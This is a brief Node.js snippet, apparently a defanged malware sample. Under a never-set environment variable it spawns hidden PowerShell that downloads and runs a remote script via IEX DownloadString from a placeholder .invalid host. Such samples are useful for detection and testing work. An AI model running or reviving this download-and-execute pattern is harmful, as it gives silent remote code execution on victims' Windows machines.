// defanged: URL under .invalid, guarded by a never-set variable
const { exec } = require('child_process');
if (process.platform === 'win32' && process.env.DEFANGED_NEVER_SET) {
  exec('powershell -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'https://cdn.example.invalid/a.ps1\')"');
}
